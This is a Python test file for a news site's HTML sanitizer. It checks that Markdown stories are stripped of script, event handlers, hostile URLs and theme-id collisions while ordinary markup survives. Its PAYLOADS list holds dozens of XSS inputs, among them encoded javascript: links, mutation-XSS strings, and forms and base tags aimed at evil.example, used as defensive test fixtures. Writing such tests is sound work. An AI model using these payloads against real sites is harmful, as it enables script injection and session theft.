"""Story bodies through the allowlist (sanitize.py): every payload loses what could run, load from elsewhere or
take the theme's ids; what contributors legitimately write stays; `newsdesk check` warns on the line; and a
real `mkdocs build --strict` of a story holding every payload publishes none of them."""

from __future__ import annotations

import json
import re
from pathlib import Path

import markdown
import pytest
from htmltree import Node, parse
from newsdesk.render import sanitize
from sitekit import Built, copy_site, mkdocs_build, newsdesk

EXTENSIONS = ["toc", "tables", "fenced_code", "admonition", "attr_list", "footnotes", "abbr", "def_list"]
EXTENSIONS += ["md_in_html", "codehilite"]
CONFIGS = {"toc": {"permalink": True}}
FORBIDDEN_TAGS = {"script", "iframe", "frame", "frameset", "object", "embed", "form", "input", "button"}
FORBIDDEN_TAGS |= {
    "select",
    "textarea",
    "meta",
    "base",
    "link",
    "style",
    "svg",
    "math",
    "template",
    "noscript",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "ping", "xlink:href"}


def convert(body: str) -> str:
    return markdown.Markdown(extensions=EXTENSIONS, extension_configs=CONFIGS).convert(body)


def clean(body: str) -> str:
    return sanitize.sanitize(convert(body))


def dangers(html: str | Node) -> list[str]:
    """What in an HTML text (or tree) could run script, load from another origin, or take a theme id."""
    found = []
    for node in (parse(html) if isinstance(html, str) else html).iter():
        if node.tag in FORBIDDEN_TAGS:
            found.append(f"<{node.tag}>")
        for name, value in node.attrs.items():
            address = (
                re.sub(r"[\t\n\r]", "", value).lstrip("\x00\x01\x02\x03\x04\x05\x06\x07\x08 \x0b\x0c").lower()
            )
            if name.startswith("on"):
                found.append(f"{node.tag} {name}")
            elif name in URL_ATTRIBUTES and (
                re.match(r"[a-z][a-z0-9+.-]*:", address)
                # an iCalendar text ("Add to calendar") is downloaded, never run or shown as a page
                and not re.match(r"(https?|mailto):|data:text/calendar;charset=utf-8;base64,", address)
            ):
                found.append(f"{node.tag} {name}={value}")
            elif name in URL_ATTRIBUTES and address[:2] in ("//", "\\\\", "/\\", "\\/"):
                found.append(f"{node.tag} {name}={value} (another origin)")
            elif name in ("srcdoc", "srcset", "name", "formaction"):
                found.append(f"{node.tag} {name}")
            elif name == "id" and value.startswith("_"):
                found.append(f"{node.tag} id={value}")
            elif name == "style" and not re.fullmatch(r"\s*text-align\s*:\s*\w+\s*;?\s*", value):
                found.append(f"{node.tag} style={value}")
    return found


PAYLOADS = {
    "script": '<script>alert("script")</script>',
    "img onerror": '<img src="missing.png" onerror="alert(1)">',
    "iframe srcdoc": "<iframe srcdoc=\"<script>parent.alert('iframe')</script>\"></iframe>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "javascript link": "[x](javascript:alert(1))",
    "javascript, mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript, hex entity": "[x](jav&#x61;script:alert(1))",
    "javascript, decimal entities without ;": '<a href="&#0000106&#0000097vascript:alert(1)">x</a>',
    "javascript, tab inside": '<a href="java&#9;script:alert(1)">x</a>',
    "javascript, newline inside": '<a href="java\nscript:alert(1)">x</a>',
    "javascript, leading space": '<a href=" javascript:alert(1)">x</a>',
    "javascript, reference link": "[x][r]\n\n[r]: javascript:alert(1)",
    "javascript, with a title": '[x](javascript:alert(1) "title")',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data: link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data: image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "attr_list onerror": '![x](pic.png){ onerror="alert(1)" }',
    "attr_list onclick on a heading": '## Heading { onclick="alert(1)" }',
    "attr_list #__config": "## Settings { #__config }",
    "heading text __config": "## __config",
    "attr_list name": '[x](#the-end){ name="__config" }',
    "attr_list style": '[x](#the-end){ style="position:fixed;inset:0" }',
    "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
    "style": "<style>body { display: none }</style>",
    "form": '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">go</button></form>',
    "base": '<base href="https://evil.example/">',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "protocol-relative image": '<img src="//evil.example/pixel.png">',
    "protocol-relative link": "[x](//evil.example/)",
    "backslash protocol-relative": '<a href="/\\evil.example/">x</a>',
    "srcset": '<img src="ok.png" srcset="https://evil.example/a.png 1x">',
    "details ontoggle": "<details open ontoggle=\"alert('toggle')\"><summary>s</summary></details>",
    "md_in_html onclick": '<div markdown="1" onclick="alert(1)">**x**</div>',
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "noscript mutation": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "svg style mutation": "<svg><style><img src=x onerror=alert(1)></style></svg>",
}


@pytest.mark.parametrize("body", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_payload_loses_what_could_run_load_or_take_a_theme_id(body: str) -> None:
    assert dangers(convert(body)), "the payload is not dangerous before sanitising: the test proves nothing"
    assert dangers(clean(body)) == []


def test_protocol_relative_addresses_are_removed_and_full_ones_kept() -> None:
    # Decided: `//host/x` leaves the site like https://host/x without saying so, and `/\host` is read the
    # same by browsers; a story writes the full address. http, https and mailto addresses stay.
    page = parse(
        clean("[a](//evil.example/) [b](https://example.org/) [c](http://example.org/) [d](mailto:a@b.c)")
    )
    assert [a.attrs.get("href") for a in page.all("a")] == [
        None,
        "https://example.org/",
        "http://example.org/",
        "mailto:a@b.c",
    ]


LEGITIMATE = """\
# Title

## Some heading

Text with *emphasis*, **strong**, `code`, ~~no~~, H~2~O, <del>old</del> <ins>new</ins>, <sub>2</sub>, <sup>3</sup>,
<kbd>Ctrl</kbd>, <mark>marked</mark>, an HTML abbreviation, a [page](../other/), a [query](?q=1), a
[section](#some-heading), [mail](mailto:news@example.org), [site](https://example.org/a?b=c&d=e).
Line one<br>line two.

![A photo](img/photo.png){ width="300" loading="lazy" }

| left | right |
|:-----|------:|
| 1    | 2     |

!!! note "Heads up"
    Admonitions stay.

Footnote[^1].

[^1]: The note.

```python
print("hi")
```

> A quote.

- one
- two

1. first
2. second

---

Term
:   Definition

<details><summary>More</summary><p>Hidden text.</p></details>

<figure><img src="img/chart.png" alt="A chart"><figcaption>A chart.</figcaption></figure>

<span class="lead">Lead text.</span> [Subscribe](../subscribe/){ .md-button .md-button--primary }

*[HTML]: Hyper Text Markup Language
"""


@pytest.fixture(scope="module")
def legitimate() -> Node:
    return parse(clean(LEGITIMATE))


def test_headings_keep_their_toc_ids_and_permalinks(legitimate: Node) -> None:
    heading = legitimate.one("h2", id="some-heading")
    assert heading.one("a", cls="headerlink").attrs["href"] == "#some-heading"
    assert [a.words() for a in legitimate.all("a", href="#some-heading")] == ["¶", "section"]


def test_text_level_markup_stays(legitimate: Node) -> None:
    for tag in ("em", "strong", "code", "del", "ins", "sub", "sup", "kbd", "mark", "br", "blockquote", "hr"):
        assert legitimate.all(tag), tag
    assert legitimate.one("abbr").attrs["title"] == "Hyper Text Markup Language"
    assert [li.words() for li in legitimate.all("li")][:4] == ["one", "two", "first", "second"]
    assert legitimate.one("dt").words() == "Term" and legitimate.one("dd").words() == "Definition"
    assert legitimate.one("summary").words() == "More" and "Hidden text." in legitimate.one("details").words()
    assert legitimate.one("figcaption").words() == "A chart."
    assert legitimate.one("span", cls="lead").words() == "Lead text."


def test_links_and_relative_images_stay(legitimate: Node) -> None:
    hrefs = [a.attrs.get("href") for a in legitimate.all("a") if "headerlink" not in a.classes]
    assert {
        "../other/",
        "?q=1",
        "#some-heading",
        "mailto:news@example.org",
        "https://example.org/a?b=c&d=e",
    } <= set(hrefs)
    assert all(a.attrs["rel"] == "noopener noreferrer" for a in legitimate.all("a"))
    photo = legitimate.one("img", alt="A photo")
    assert (photo.attrs["src"], photo.attrs["width"], photo.attrs["loading"]) == (
        "img/photo.png",
        "300",
        "lazy",
    )
    assert legitimate.one("img", alt="A chart").attrs["src"] == "img/chart.png"
    assert legitimate.one("a", href="../subscribe/").classes == {"md-button", "md-button--primary"}


def test_tables_keep_their_alignment(legitimate: Node) -> None:
    assert [th.attrs["style"] for th in legitimate.all("th")] == ["text-align:left", "text-align:right"]
    assert [td.words() for td in legitimate.all("td")] == ["1", "2"]


def test_admonitions_footnotes_and_code_stay(legitimate: Node) -> None:
    note = legitimate.one("div", cls="admonition")
    assert note.classes == {"admonition", "note"}
    assert note.one("p", cls="admonition-title").words() == "Heads up"
    ref = legitimate.one("sup", id="fnref:1")
    assert ref.one("a", cls="footnote-ref").attrs["href"] == "#fn:1"
    assert legitimate.one("div", cls="footnote").one("li", id="fn:1").one("a", cls="footnote-backref").attrs[
        "href"
    ] == ("#fnref:1")
    code = legitimate.one("div", cls="codehilite")
    assert code.one("pre").one("code").words() == 'print("hi")'
    assert {"nb", "p", "s2"} <= {cls for span in code.all("span") for cls in span.classes}


def test_ids_that_could_be_the_themes_are_renamed_with_their_links() -> None:
    page = parse(
        clean("## `__init__` method\n\n## Settings { #__config }\n\nSee [it](#__config).\n\n## _x { #_x }")
    )
    assert [h.attrs["id"] for h in page.all("h2")] == ["story-__init__-method", "story-__config", "story-_x"]
    links = [a.attrs["href"] for a in page.all("a")]
    assert links == ["#story-__init__-method", "#story-__config", "#story-__config", "#story-_x"]
    assert sanitize.safe_id("some-heading") == "some-heading" and sanitize.safe_id("fn:1") == "fn:1"


def test_theme_classes_and_odd_classes_are_removed() -> None:
    page = parse(clean('<p class="md-header nd-chip note md-button x&quot;y">text</p>'))
    assert page.one("p").classes == {"note", "md-button"}


# --- what check says -----------------------------------------------------------------------------------


def audit(body: str) -> list[tuple[int, str]]:
    return [(r.line, r.message) for r in sanitize.Audit(EXTENSIONS, CONFIGS).removed(body)]


def test_audit_names_each_removal_on_its_line() -> None:
    body = "Intro.\n\n<script>alert(1)</script>\n\nText [x](javascript:alert(1)).\n\n<script>x()</script>\n"
    found = audit(body)
    assert found == [
        (
            3,
            "<script>, with what is inside it, will be removed when the site is built: stories may not run script",
        ),
        (
            5,
            "the address javascript:alert(1) will be removed when the site is built: "
            "only http, https, mailto and relative addresses are kept",
        ),
        (
            7,
            "<script>, with what is inside it, will be removed when the site is built: stories may not run script",
        ),
    ]


def test_audit_finds_attributes_classes_and_addresses() -> None:
    body = 'One.\n\n![x](pic.png){ onerror="alert(1)" }\n\n<p class="md-header">a</p>\n\n[far](//evil.example/)\n'
    assert [(line, message.split(" will ")[0]) for line, message in audit(body)] == [
        (3, "the attribute onerror"),
        (5, "the class md-header"),
        (7, "the address //evil.example/"),
    ]


@pytest.mark.parametrize("body", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_every_payload_is_warned_about(body: str) -> None:
    if body.startswith("## __config") or "#__config" in body:
        assert audit(body) == []  # renamed, not removed: nothing to warn about
    else:
        assert audit(body), body


def test_bodies_without_markup_are_not_converted() -> None:
    plain = (
        "Five partners join. See [the page](../partners/) and [the site](https://example.org/).\n\n- a\n- b\n"
    )
    assert not sanitize.might_hold_markup(plain)
    assert sanitize.might_hold_markup(plain + "[x](javascript:alert(1))")
    assert sanitize.might_hold_markup(plain + "[x](jav&#x61;script:alert(1))")
    assert sanitize.might_hold_markup(plain + "[x](//evil.example/)")
    assert sanitize.might_hold_markup(plain + "<b>")
    assert sanitize.might_hold_markup(plain + "{ #__config }")


def test_removed_text_is_shown_without_control_characters() -> None:
    (found,) = audit('<a href="vbscript:x\x1b[31m">x</a>\n')
    assert "\x1b" not in found[1] and "\\x1b" in found[1]


# --- a real build, and check, of a story holding every payload -------------------------------------------

PAYLOAD_STORY = "content/stories/hr/2026-12-10-payloads.md"
EXTENSIONS_YAML = """
markdown_extensions:
  - admonition
  - attr_list
  - footnotes
  - md_in_html
  - toc:
      permalink: true
"""
BUILD_PAYLOADS = [
    body.replace("pic.png", "data:image/gif;base64,R0lGODlhAQABAAAAACw=").replace("ok.png", "missing.png")
    for name, body in PAYLOADS.items()
]


def write_payload_site(root: Path, *, allow_raw_html: bool = False) -> Path:
    config = root / "mkdocs.yml"
    text = config.read_text(encoding="utf-8") + EXTENSIONS_YAML
    if allow_raw_html:
        text = text.replace("timezone: Europe/London", "timezone: Europe/London\n      allow_raw_html: true")
    config.write_text(text, encoding="utf-8")
    story = root / PAYLOAD_STORY
    front = "---\ntitle: Every payload\ndate: 2026-12-10\nchannels: [website]\nstatus: scheduled\n---\n\n"
    story.write_text(
        front + "# Every payload\n\n" + "\n\n".join(BUILD_PAYLOADS) + "\n\n## The end\n", encoding="utf-8"
    )
    return root


@pytest.fixture(scope="module")
def payload_build(tmp_path_factory: pytest.TempPathFactory) -> Built:
    built = mkdocs_build(write_payload_site(copy_site("basic", tmp_path_factory.mktemp("payloads"))))
    assert built.ok, built.log
    return built


def article(built: Built) -> Node:
    page = parse(built.page("stories/hr/payloads/"))
    (found,) = page.all("article")
    return found


@pytest.mark.build
def test_the_built_story_holds_none_of_the_payloads(payload_build: Built) -> None:
    page = parse(payload_build.page("stories/hr/payloads/"))
    body = article(payload_build)
    assert body.all("h1")[-1].words() == "Every payload¶" and body.all("h2")[-1].words() == "The end¶"
    assert dangers(body) == []
    # The whole page, theme included: no handler, no script address, no script of the story's, one #__config.
    everywhere = [d for d in dangers(page) if " on" in d or "script:" in d.lower()]
    assert everywhere == []
    assert [n for n in page.all("script") if "alert" in n.text()] == []
    assert [n.tag for n in page.all(id="__config")] == ["script"]  # Material's own, and only it
    assert body.one("h2", id="story-__config").words().startswith("Settings")


@pytest.mark.build
def test_the_story_page_toc_links_reach_the_renamed_ids(payload_build: Built) -> None:
    broken = payload_build.broken_links("stories/hr/payloads/")
    assert [link for link in broken if link.startswith("#")] == []  # missing.png is the payloads' own
    toc = [
        a.attrs["href"]
        for a in parse(payload_build.page("stories/hr/payloads/")).all("a", cls="md-nav__link")
    ]
    assert "#story-__config" in toc and "#__config" not in toc


@pytest.mark.build
def test_allow_raw_html_keeps_the_raw_html(tmp_path: Path) -> None:
    built = mkdocs_build(write_payload_site(copy_site("basic", tmp_path), allow_raw_html=True))
    assert built.ok, built.log
    html = built.page("stories/hr/payloads/")
    assert '<script>alert("script")</script>' in html and 'onerror="alert(1)"' in html
    check = newsdesk(built.root, "check")
    assert check.returncode == 0 and "will be removed" not in check.stdout


def payload_line(root: Path, text: str) -> int:
    lines = (root / PAYLOAD_STORY).read_text(encoding="utf-8").splitlines()
    return next(number for number, line in enumerate(lines, 1) if text in line)


def test_check_warns_on_the_line_in_every_format(tmp_path: Path) -> None:
    root = write_payload_site(copy_site("basic", tmp_path))
    text = newsdesk(root, "check")
    assert text.returncode == 0, text.stdout + text.stderr  # warnings only
    script = payload_line(root, "<script>alert")
    assert (
        f"{PAYLOAD_STORY}:{script}: warning: <script>, with what is inside it, will be removed when the site is "
        "built: stories may not run script\n    hint: use markdown" in text.stdout
    )
    link = payload_line(root, "[x](JaVaScRiPt:")
    assert f"{PAYLOAD_STORY}:{link}: warning: the address JaVaScRiPt:alert(1) will be removed" in text.stdout
    onerror = payload_line(root, "{ onerror=")
    assert f"{PAYLOAD_STORY}:{onerror}: warning: the attribute onerror will be removed" in text.stdout

    github = newsdesk(root, "check", "--format", "github").stdout.splitlines()
    assert any(
        line.startswith(f"::warning file={PAYLOAD_STORY},line={script},") and "script" in line
        for line in github
    )

    found = json.loads(newsdesk(root, "check", "--format", "json").stdout)
    mine = [p for p in found if p["path"] == PAYLOAD_STORY]
    assert {"line": script, "severity": "warning"}.items() <= next(
        p for p in mine if p["message"].startswith("<script>")
    ).items()
    assert len(mine) >= len(PAYLOADS) - 3  # the renamed ids are not warnings
    assert newsdesk(root, "check", "--warnings-as-errors").returncode == 1


def test_a_story_full_of_removed_markup_gets_fifty_warnings_and_a_count(tmp_path: Path) -> None:
    root = copy_site("basic", tmp_path)
    body = "".join(f"<b onclick=x>{n}</b>\n\n" for n in range(200))
    story = "---\ntitle: Many\ndate: 2026-12-01\nchannels: [website]\n---\n\n" + body
    (root / "content" / "stories" / "hr" / "2026-12-01-many.md").write_text(story, encoding="utf-8")
    checked = newsdesk(root, "check", "--format", "json")
    mine = [p for p in json.loads(checked.stdout) if p["path"] == "content/stories/hr/2026-12-01-many.md"]
    assert len(mine) == 51, mine[-2:]
    assert "and 150 more pieces of markup the build will remove" in mine[-1]["message"]
